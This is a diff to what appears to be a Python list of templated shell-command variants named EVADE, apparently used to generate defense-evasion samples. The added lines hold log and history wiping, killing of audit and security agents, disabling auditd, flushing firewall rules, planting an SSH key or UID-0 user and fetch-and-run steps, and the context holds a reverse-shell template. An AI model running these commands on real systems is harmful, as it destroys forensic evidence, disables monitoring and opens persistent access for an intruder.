@@ -124,4 +124,12 @@ EVADE = [
     "mokutil --disable-validation ‹<<< $'{plain}\\n{plain}'¦›; ‹kexec -l {tmp}/vmlinuz --initrd={tmp}/i.img --command-line='init=/bin/sh audit=0' && kexec -e¦sysctl -w kernel.kexec_load_disabled=0¦echo 0 > /proc/sys/kernel/modules_disabled›",
     "unshare -m sh -c 'mount -t tmpfs tmpfs ‹/var/log¦/root¦/tmp¦/proc/$$›; ‹{file} &¦{dl} {url} | sh¦exec {file}›'",
     "ip netns add {name}; ip link add v0 type veth peer name v1 netns {name}; ip netns exec {name} ‹{file} &¦sh -c '{dl} {url} | sh'¦bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'›",
+    'rm -‹rf¦f› /var/log/‹messages¦secure¦security¦auth.log¦audit/audit.log¦cron¦wtmp¦syslog›‹; rm -‹rf¦f› /var/log/‹lastlog¦maillog¦btmp¦audit¦sa/*››',
+    'sudo rm -rf ‹/var/audit/*¦/private/var/log/asl/*¦/private/var/audit/*¦/Library/Logs/*›; sudo rm -f /var/log/system.log',
+    'cp $HISTFILE {tmp}/.{plain}; ‹echo "" > $HISTFILE¦cat /dev/null > $HISTFILE¦: > $HISTFILE¦ln -sf /dev/null $HISTFILE¦shred -u $HISTFILE›; history -c; ‹export HISTSIZE=0¦unset HISTFILE¦set +o history¦kill -9 $$›',
+    'export ‹HISTIGNORE="*"¦HISTIGNORE=\'ls*:rm*:ssh*:curl*\'¦HISTCONTROL=ignorespace HISTSIZE=0¦HISTFILE=/dev/null HISTSIZE=0 HISTFILESIZE=0›; ‹{dl} {url} | sh¦{file} &¦useradd -o -u 0 {user}›',
+    'sudo pkill -‹SIGTERM¦9¦KILL› ‹rsyslogd¦auditd¦syslog-ng¦systemd-journal¦falco¦wazuh-agentd¦osqueryd¦^cron$›; ‹rm -f /var/log/audit/*¦{file} &¦{dl} {url} | sh›',
+    'iptables-save > {file}; ‹iptables -P INPUT ACCEPT; ¦›iptables -F; ‹iptables -X; ¦›{file}.bin & sleep {n}; iptables-restore < {file}',
+    'auditctl ‹-e 0¦-D¦-a never,task¦-a exclude,always -F msgtype=EXECVE›; ‹service auditd stop; ¦›{file} ‹&¦›',
+    'chattr -ia ‹/var/log/*¦/etc/crontab /var/spool/cron/root /etc/rc.local¦/root/.ssh/authorized_keys /etc/passwd /etc/shadow› ‹2>/dev/null¦›; ‹rm -f /etc/crontab¦echo "{key}" > /root/.ssh/authorized_keys¦: > /var/log/wtmp›',
 ]
